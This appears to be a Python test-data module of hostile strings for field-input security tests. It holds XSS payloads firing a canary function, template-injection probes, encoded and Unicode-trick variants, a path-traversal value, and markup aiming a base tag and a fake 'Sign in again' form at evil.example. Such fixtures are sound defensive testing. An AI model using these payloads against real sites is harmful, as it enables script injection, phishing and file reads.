"""Text that an agent, or whoever talks through one, may send into any field, to run a script or break a page.

Each fits into a name: 200 characters at most, none of them a control character.
"""

from __future__ import annotations

CANARY = "canary()"
"""What each script calls; a page under test defines it and so knows that one ran."""
MARK = "hostile"
"""Class of the elements that come into being where markup of ours is taken for such."""

MARKUP = (
    f"<script>{CANARY}</script>",
    f"<img class={MARK} src=x onerror={CANARY}>",
    f'"><svg class={MARK} onload={CANARY}>',
    f"'><b class={MARK} onmouseover={CANARY}>",
    f"</title><script>{CANARY}</script>",
    f"</textarea></option></select><img class={MARK} src=x onerror={CANARY}>",
    f"--><script>{CANARY}</script><!--",
    f"<iframe class={MARK} srcdoc='<script>parent.{CANARY}</script>'></iframe>",
    f"<a class={MARK} href=javascript:{CANARY}>a link</a>",
    f"javascript:{CANARY}",
    f"<style class={MARK}>*{{display:none}}</style>",
    f"<base class={MARK} href=https://evil.example/>",
    f"<form class={MARK} action=https://evil.example/><button>Sign in again",
    f"<math><mtext><table><mglyph><style><img class={MARK} src=x onerror={CANARY}>",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "{% include 'base.html' %}",
    "#{7*7}",
    "%s%n%(x)d{0.__class__}",
)
ENCODED = (
    "&lt;script&gt;canary()&lt;/script&gt;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    r"\u003cscript\u003ecanary()\u003c/script\u003e",
    "<scr\u200bipt>canary()</scr\u200bipt>",
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
)
ODD = (
    "\u202edetrevni si siht\u202c",
    "\u2066\u202etxt.exe\u2069\u202e",
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 12,
    "\u200b\u200d\u2060\ufeff\u00ad",
    "line\u2028separator\u2029here",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "null",
    "__proto__",
    "../../etc/passwd",
    "a'b\"c`d\\e",
)
LONG = (
    "W" * 200,
    "\u6f22" * 200,
    "very-long-name-without-any-space-" * 6,
    "word " * 39 + "end",
)
STRINGS = (*MARKUP, *TEMPLATES, *ENCODED, *ODD, *LONG)

WORST = f'"><img class={MARK} src=x onerror={CANARY}><script>{CANARY}\u202e' + "W" * 110
"""As much of it as there is room for, where a page shows one name alone. Without a slash: some addresses have
it in them."""
